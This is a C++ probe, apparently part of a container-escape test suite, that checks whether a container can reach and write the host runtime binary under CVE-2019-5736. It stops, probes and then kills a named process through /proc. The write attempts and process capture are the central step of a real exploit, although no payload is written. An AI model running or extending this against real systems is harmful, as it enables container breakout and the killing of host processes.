// CVE-2019-5736: the runtime's own binary, which a container can come to hold where its program is
// /proc/self/exe, or a script whose interpreter that is.
//   runtime PATH   what can be done to the file there
//   hunt NAME      the same, for the binary of the process that is called so, wherever it runs
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <sys/stat.h>
#include <time.h>

#include "attack.h"

using namespace attack;

namespace {

void TryOn(const char* path) {
    struct stat file {};
    Attempt("look at it", stat(path, &file));
    // As it is: nothing is damaged where it succeeds.
    Attempt("change its mode", chmod(path, file.st_mode & 07777));
    Attempt("change its times", utimensat(AT_FDCWD, path, nullptr, 0));
    const int held = open(path, O_PATH | O_CLOEXEC);
    char by_descriptor[64];
    snprintf(by_descriptor, sizeof by_descriptor, "/proc/self/fd/%d", held);
    Attempt("write to it by a descriptor", open(by_descriptor, O_WRONLY | O_CLOEXEC));
    Attempt("write to it", open(path, O_WRONLY | O_CLOEXEC));
}

// Whether it is there, and stopped, so that it stays.
bool Catch(const char* pid, const char* name) {
    char path[300], text[64];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    if (Read(path, text, sizeof text) < 0) return false;
    text[strcspn(text, "\n")] = '\0';
    return strcmp(text, name) == 0 && kill(atoi(pid), SIGSTOP) == 0;
}

void Hunt(const char* name) {
    timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        DIR* processes = opendir("/proc");
        while (dirent* entry = readdir(processes)) {
            if (!isdigit(entry->d_name[0]) || !Catch(entry->d_name, name)) continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            struct stat file;
            const bool open = stat(path, &file) == 0;
            if (open) TryOn(path);
            kill(atoi(entry->d_name), SIGKILL);
            if (open) return;
        }
        closedir(processes);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < 40);
    Say("look at it", "never seen");
}

}  // namespace

int main(int argc, char** argv) {
    const char* what = argc > 1 ? argv[1] : "/proc/1/exe";
    if (argc > 2)
        Hunt(argv[2]);
    else
        TryOn(what);
    Done();
}
